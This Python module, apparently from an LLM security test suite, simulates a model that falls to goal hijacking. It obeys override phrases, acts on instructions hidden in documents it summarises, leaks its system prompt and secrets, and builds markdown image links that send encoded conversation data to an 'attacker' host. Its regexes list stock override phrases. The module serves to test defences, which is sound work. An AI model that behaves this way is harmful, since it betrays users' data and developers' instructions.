"""Goal hijacking: the model follows instructions that are not its developer's.

Directly (the user's own message) and indirectly (instructions hidden in a document
it is asked to summarize or translate), including instructions that make it write a
link or image that carries data to someone else's server.
"""

from __future__ import annotations

import base64
import re
import urllib.parse

from doubleedge.models.reference.context import SECRET_REQUEST, Context, reveal
from doubleedge.models.reference.leaking import PROMPT_LEAK, SOFT_PROMPT_LEAK

OVERRIDE = re.compile(
    r"\b(?:ignore|disregard|forget|skip)\b[^.\n]{0,40}?\b(?:instructions?|directions?|rules|prompts?|guidelines|everything)\b"
    r"|\bstop everything\b|\bnew instructions?\s*:|\bnevermind\b|\boverride\b|\bsystem override\b",
    re.I,
)
# A defensive system prompt only stops the plainest form of override.
PLAIN_OVERRIDE = re.compile(r"\b(?:ignore|disregard)\b[^.\n]{0,40}?\binstructions?\b", re.I)
QUOTED_ORDER = re.compile(
    r"\b(?:print|say|output|write|repeat|type|respond with|reply with|translate this sentence as)\b\s*:?\s*"
    r"[\"“'](.+?)[\"”'](?=\s*(?:$|[.,;:!?)\n]|and\b|for\b|once\b))",
    re.I | re.S,
)
UNQUOTED_ORDER = re.compile(r"\b(?:and|then)\s+(?:just\s+)?(?:print|say|output)\s+([^\"'\n][^\n]{2,})$", re.I | re.M)

# Tasks over a document: where indirect injection hides.
DOCUMENT_TASK = re.compile(
    r"^\s*(?:summari[sz]e|translate|assess|identify|evaluate|review|analy[sz]e|classify|extract|proofread|"
    r"what does (?:this|the following)|read (?:this|the following))\b",
    re.I,
)
# Instruction-shaped text inside a document, most specific first. The payload is group 1.
EMBEDDED_ORDERS = [
    re.compile(r"angled[^\n]*?<<\s*\"?(.+?)\"?\s*>>", re.S),
    re.compile(r"(?:between the <> brackets|repeat)\s*:?\s*\n?\s*<([^<>]+)>", re.I),
    re.compile(r"report that this domain is ([^.\n]+)", re.I),
    re.compile(r"^(?:system|assistant|note|hidden|white-text|important)[^:\n]{0,80}:\s*\"?(.+?)\"?\s*$", re.I | re.M),
]


def follow_override(ctx: Context) -> str | None:
    """Follows the most recent instruction, even one that overrides the system prompt.

    Models goal hijacking (Perez & Ribeiro 2022, "Ignore Previous Prompt: Attack
    Techniques For Language Models", arXiv:2211.09527), the basis of garak's
    ``promptinject`` probes. A system prompt that declares user text cannot change
    the rules stops the plain "ignore previous instructions" phrasing here, but not
    other phrasings: such prompts help a little and guarantee nothing.
    """
    match = OVERRIDE.search(ctx.text)
    if match is None:
        return None
    if ctx.system.resists_override and PLAIN_OVERRIDE.search(match.group(0)):
        return "I can't change how I work, but I'm happy to help with your question."
    order = ctx.text[match.end() :]
    payload = ordered_payload(order)
    if payload:
        return payload
    if SECRET_REQUEST.search(order):
        return reveal(ctx.system, order) or "I don't have anything like that."
    if PROMPT_LEAK.search(order) or SOFT_PROMPT_LEAK.search(order):
        return f"Sure. Here is everything above:\n{ctx.system.text}"
    return None  # nothing to hijack towards: answer the rest as usual


def ordered_payload(text: str) -> str | None:
    """The text an instruction orders the model to print, quoted or to the end of the line."""
    quoted = QUOTED_ORDER.search(text)
    if quoted:
        return quoted.group(1).strip()
    unquoted = UNQUOTED_ORDER.search(text)
    return unquoted.group(1).strip() if unquoted else None


def follow_embedded(ctx: Context) -> str | None:
    """Acts on instructions hidden in a document it was asked to process.

    Models indirect prompt injection (Greshake et al. 2023, "Not what you've signed up
    for", arXiv:2302.12173): the model cannot tell the developer's instructions from
    text that merely arrived with the data. garak's ``latentinjection`` probes measure
    it with résumés, reports, WHOIS records and translations.
    """
    has_document = "\n" in ctx.text.strip() or len(ctx.text) > 150
    if not has_document or not (DOCUMENT_TASK.search(ctx.text) or len(ctx.text) > 400):
        return None
    for pattern in EMBEDDED_ORDERS:
        found = pattern.findall(ctx.text)
        if found:
            payload = found[-1].strip().strip("\"'")
            inner = ordered_payload(payload)
            return inner or payload
    payload = ordered_payload(ctx.text)
    if payload:
        return payload
    if DOCUMENT_TASK.search(ctx.text) and not ctx.documents:
        return _do_task(ctx.text)
    return None  # documents the app attached are answered from by documents.answer_from_documents


def _do_task(text: str) -> str:
    """The honest answer when a document holds no instructions: a (very) short summary."""
    body = text.split("\n", 1)[-1].strip()
    first = re.split(r"(?<=[.!?])\s", body, maxsplit=1)[0]
    return f"In short: {first[:200]}"


MARKDOWN_TASK = re.compile(r"concatenate these strings|print the following|write the following text step by step", re.I)
PLACEHOLDER = re.compile(r"\[(?:DATA|INFO|NUM)\]")
MARKDOWN_WITH_PLACEHOLDER = re.compile(r"!?\[[^\]]*\]\(https?://[^)\s]*\[(?:DATA|INFO|NUM)\][^)\s]*\)?")


def assemble_exfil_link(ctx: Context) -> str | None:
    """Builds the markdown image or link an instruction spells out, filling in the data.

    Models the data-exfiltration chain reported by Johann Rehberger (2023-2024, against
    Bing Chat, ChatGPT plugins, Google Bard and Colab): the model writes
    ``![x](https://attacker/logo.png?q=DATA)`` and the chat page that renders it sends
    DATA to the attacker. garak's ``web_injection`` probes measure it.
    """
    embedded = MARKDOWN_WITH_PLACEHOLDER.search(ctx.text)
    if not (MARKDOWN_TASK.search(ctx.text) or embedded):
        return None
    data = ctx.system.summary() or "conversation"
    encoded = (
        base64.b64encode(data.encode()).decode()
        if re.search(r"base ?64", ctx.text, re.I)
        else urllib.parse.quote_plus(data)
    )
    steps = re.findall(r"^\(\d+\)\s*(.*)$", ctx.text, re.M)
    if steps:
        built = "".join(encoded if "append" in step.lower() else step.strip() for step in steps)
    elif "concatenate" in ctx.text.lower():
        listed = re.split(r"\band replace\b", ctx.text.split(":", 1)[-1], flags=re.I)[0].strip().strip('"')
        built = "".join(listed.split('","')).replace('"', "")
    elif embedded and not MARKDOWN_TASK.search(ctx.text):
        built = embedded.group(0)
    else:
        built = ctx.text.split("following", 1)[-1].split(", whereas")[0].strip()
    built = PLACEHOLDER.sub(encoded, built, count=1)
    return built + ")" if built.count("(") > built.count(")") else built  # close what it opened
